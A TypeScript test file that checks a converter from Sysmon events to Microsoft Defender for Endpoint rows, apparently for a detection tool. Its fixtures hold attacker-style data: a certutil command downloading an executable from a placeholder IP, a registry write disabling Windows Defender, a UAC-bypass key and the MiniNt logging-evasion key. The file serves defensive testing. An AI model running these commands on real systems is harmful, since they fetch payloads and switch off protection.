/**
 * The regression converter (Sysmon → MDE rows) on inline events, and the round trip through the
 * mapping: for every Sysmon field the mapping maps, the value rebuilt from the MDE row is the value
 * Sysmon wrote (case aside where MDE lower-cases).
 */
import { makeEvent } from '@tripline/core/testing';
import { describe, expect, it } from 'vitest';
import { mdeMapping } from '../src/mapping/index.js';
import { parseConcatenatedJson, readEvents, type SysmonEvent, sysmonToMde } from './support/regression.js';

const sysmon = (eventId: number, data: Record<string, unknown>, provider = 'Microsoft-Windows-Sysmon') => ({
  Event: {
    System: {
      Provider: { '#attributes': { Name: provider } },
      EventID: eventId,
      TimeCreated: { '#attributes': { SystemTime: '2026-03-11T05:55:53.550235Z' } },
      EventRecordID: 35579,
      Computer: 'WS-FIN-042.contoso.local',
    },
    EventData: data,
  },
});

const PROCESS = {
  RuleName: '-',
  UtcTime: '2026-03-11 05:55:53.547',
  ProcessId: 9860,
  Image: 'C:\\Windows\\System32\\certutil.exe',
  FileVersion: '10.0.19041.1 (WinBuild.160101.0800)',
  Description: 'CertUtil.exe',
  Product: 'Microsoft® Windows® Operating System',
  Company: 'Microsoft Corporation',
  OriginalFileName: 'CertUtil.exe',
  CommandLine: 'certutil -urlcache -f http://203.0.113.7/a C:\\Users\\Public\\a.exe',
  CurrentDirectory: 'C:\\Users\\j.doe\\',
  User: 'CONTOSO\\j.doe',
  LogonId: '0x3e7',
  IntegrityLevel: 'High',
  Hashes:
    'SHA1=6E8A4FA3B1D1A44D2E1D4CA5BBD2A2B1C0E9F8D7,MD5=0F1E2D3C4B5A69788796A5B4C3D2E1F0,SHA256=9A3F1E0C5B7D2A4E6C8B0D1F3A5C7E9B2D4F6A8C0E1B3D5F7A9C2E4B6D8F0A1C,IMPHASH=1B1A3F43BF37B5BFE60751F2EE2F326E',
  ParentProcessId: 7344,
  ParentImage: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  ParentCommandLine: '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -nop',
  ParentUser: 'CONTOSO\\j.doe',
};
const REG_DWORD = {
  EventType: 'SetValue',
  ProcessId: 6164,
  Image: 'C:\\WINDOWS\\system32\\reg.exe',
  TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\WinDefend\\Start',
  Details: 'DWORD (0x00000004)',
  User: 'CONTOSO\\j.doe',
};
const REG_USER = {
  EventType: 'SetValue',
  ProcessId: 6164,
  Image: 'C:\\WINDOWS\\system32\\reg.exe',
  TargetObject:
    'HKU\\S-1-5-21-1004336348-1177238915-682003330-1106\\Software\\Classes\\ms-settings\\Shell\\Open\\command\\(Default)',
  Details: '(Empty)',
  User: 'CONTOSO\\j.doe',
};
const REG_QWORD = {
  ...REG_DWORD,
  TargetObject: 'HKLM\\SOFTWARE\\Contoso\\Stamp',
  Details: 'QWORD (0x01db3e32-0x5ef59000)',
};
const REG_BINARY = { ...REG_DWORD, TargetObject: 'HKLM\\SOFTWARE\\Contoso\\Blob', Details: 'Binary Data' };
const REG_CREATE = {
  EventType: 'CreateKey',
  ProcessId: 612,
  Image: 'C:\\Windows\\regedit.exe',
  TargetObject: 'HKLM\\SYSTEM\\CurrentControlSet\\Control\\MiniNt',
};
const REG_RENAME = {
  EventType: 'RenameKey',
  ProcessId: 612,
  Image: 'C:\\Windows\\regedit.exe',
  TargetObject: 'HKLM\\SYSTEM\\CurrentControlSet\\Control\\MiniNt_old',
  NewName: 'HKLM\\SYSTEM\\CurrentControlSet\\Control\\MiniNt',
};
const FILE = {
  ProcessId: 7344,
  Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  TargetFilename: 'C:\\Users\\j.doe\\AppData\\Local\\Temp\\update.ps1',
  CreationUtcTime: '2026-03-11 05:55:53.547',
  User: 'CONTOSO\\j.doe',
};
const NET_OUT = {
  ProcessId: 7344,
  Image: 'C:\\Windows\\System32\\rundll32.exe',
  User: 'CONTOSO\\j.doe',
  Protocol: 'tcp',
  Initiated: 'true',
  SourceIsIpv6: 'false',
  SourceIp: '10.20.30.40',
  SourceHostname: 'ws-fin-042.contoso.local',
  SourcePort: 51744,
  DestinationIsIpv6: 'false',
  DestinationIp: '203.0.113.7',
  DestinationHostname: 'raw.githubusercontent.com',
  DestinationPort: 443,
};
const NET_IN = {
  ...NET_OUT,
  Image: 'C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe',
  Initiated: 'false',
  SourceIp: '198.51.100.9',
  SourceHostname: '-',
  SourcePort: 50122,
  DestinationIp: '10.20.30.40',
  DestinationHostname: 'ws-fin-042.contoso.local',
  DestinationPort: 7070,
};

function event(eventId: number, data: Record<string, unknown>, provider?: string): SysmonEvent {
  return readEvents(JSON.stringify(sysmon(eventId, data, provider)))[0] as SysmonEvent;
}

function row(eventId: number, data: Record<string, unknown>) {
  const r = sysmonToMde(event(eventId, data));
  if (!r.ok) throw new Error(r.reason);
  return r;
}

describe('parseConcatenatedJson', () => {
  it('reads documents written one after the other, braces inside strings included', () => {
    expect(parseConcatenatedJson('{"a":"}{"}\n{"b":[{"c":"\\"}"}]}\n')).toEqual([{ a: '}{' }, { b: [{ c: '"}' }] }]);
  });
  it('refuses truncated and stray text', () => {
    expect(() => parseConcatenatedJson('{"a":1')).toThrow(/truncated/);
    expect(() => parseConcatenatedJson('{"a":1} x')).toThrow(/unexpected/);
  });
});

describe('Sysmon → MDE rows, in MDE spelling', () => {
  it('process creation: full FolderPath, split accounts, decimal LogonId, hash columns, lower-cased parent', () => {
    const r = row(1, PROCESS);
    expect(r.table).toBe('DeviceProcessEvents');
    expect(r.row).toMatchObject({
      ActionType: 'ProcessCreated',
      DeviceName: 'ws-fin-042.contoso.local',
      FolderPath: 'C:\\Windows\\System32\\certutil.exe',
      FileName: 'certutil.exe',
      AccountDomain: 'CONTOSO',
      AccountName: 'j.doe',
      LogonId: 999,
      SHA1: '6e8a4fa3b1d1a44d2e1d4ca5bbd2a2b1c0e9f8d7',
      ProcessVersionInfoProductVersion: '10.0.19041.1',
      InitiatingProcessFolderPath: 'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe',
      InitiatingProcessAccountDomain: 'contoso',
    });
    expect(JSON.stringify(r.row)).not.toMatch(/IMPHASH|CurrentDirectory/i);
  });

  it('registry: long hive names, ControlSet001, value name split, DWORD in decimal, (Default) as no name', () => {
    expect(row(13, REG_DWORD).row).toMatchObject({
      ActionType: 'RegistryValueSet',
      RegistryKey: 'HKEY_LOCAL_MACHINE\\System\\ControlSet001\\Services\\WinDefend',
      RegistryValueName: 'Start',
      RegistryValueType: 'Dword',
      RegistryValueData: '4',
      InitiatingProcessFolderPath: 'c:\\windows\\system32\\reg.exe',
    });
    const user = row(13, REG_USER).row;
    expect(user).toMatchObject({
      RegistryKey:
        'HKEY_CURRENT_USER\\S-1-5-21-1004336348-1177238915-682003330-1106\\Software\\Classes\\ms-settings\\Shell\\Open\\command',
      RegistryValueType: 'String',
    });
    expect(user).not.toHaveProperty('RegistryValueName');
    expect(user).not.toHaveProperty('RegistryValueData');
    expect(row(13, REG_QWORD).row).toMatchObject({
      RegistryValueType: 'Qword',
      RegistryValueData: '133769000000000000',
    });
    expect(row(12, REG_CREATE).row).toMatchObject({
      ActionType: 'RegistryKeyCreated',
      RegistryKey: 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Control\\MiniNt',
    });
    expect(row(14, REG_RENAME).row).toMatchObject({
      ActionType: 'RegistryKeyRenamed',
      PreviousRegistryKey: 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Control\\MiniNt_old',
      RegistryKey: 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Control\\MiniNt',
    });
  });

  it('network: Local is this device, Remote the peer, whichever side opened', () => {
    expect(row(3, NET_OUT).row).toMatchObject({
      ActionType: 'ConnectionSuccess',
      LocalIP: '10.20.30.40',
      RemoteIP: '203.0.113.7',
      RemotePort: 443,
      RemoteUrl: 'raw.githubusercontent.com',
      Protocol: 'Tcp',
    });
    expect(row(3, NET_IN).row).toMatchObject({
      ActionType: 'InboundConnectionAccepted',
      LocalIP: '10.20.30.40',
      LocalPort: 7070,
      RemoteIP: '198.51.100.9',
      RemotePort: 50122,
    });
  });

  it('says why an event has no row', () => {
    const security = sysmonToMde(event(4701, { TaskName: '\\x' }, 'Microsoft-Windows-Security-Auditing'));
    expect(security).toEqual({
      ok: false,
      reason: 'Microsoft-Windows-Security-Auditing event 4701: MDE does not ship Windows event log records',
    });
    const pipe = sysmonToMde(event(17, { PipeName: '\\x' }));
    expect(pipe.ok ? '' : pipe.reason).toMatch(/Sysmon event 17: outside the tables/);
  });
});

describe('round trip: Sysmon → MDE row → mapping gives Sysmon’s value back', () => {
  const mapping = mdeMapping();
  const cases: [string, number, Record<string, unknown>][] = [
    ['process_creation', 1, PROCESS],
    ['registry_event', 13, REG_DWORD],
    ['registry_event', 13, REG_USER],
    ['registry_event', 13, REG_QWORD],
    ['registry_event', 13, REG_BINARY],
    ['registry_event', 12, REG_CREATE],
    ['registry_event', 14, REG_RENAME],
    ['file_event', 11, FILE],
    ['network_connection', 3, NET_OUT],
    ['network_connection', 3, NET_IN],
  ];
  it.each(cases)('%s, Sysmon event %i', (category, eventId, data) => {
    const r = row(eventId, data);
    const e = makeEvent(r.table, r.row);
    const route = mapping.route({ product: 'windows', category });
    if (!route.ok) throw new Error(route.reason.message);
    let compared = 0;
    for (const [field, written] of Object.entries(data)) {
      const f = mapping.field(route.route, field);
      if (!f.ok || written === '-') continue;
      let want = String(written);
      if (field === 'Hashes') want = want.slice(0, want.indexOf(',IMPHASH='));
      if (field === 'FileVersion') want = want.split(' ')[0] ?? want;
      const got = f.view.get(e);
      const text = got === undefined ? undefined : String(got);
      if (f.view.lowercased || field === 'ParentUser' || (field === 'User' && category !== 'process_creation')) {
        expect(text?.toLowerCase(), field).toBe(want.toLowerCase());
      } else expect(text, field).toBe(want);
      compared++;
    }
    expect(compared).toBeGreaterThanOrEqual(4);
  });
});
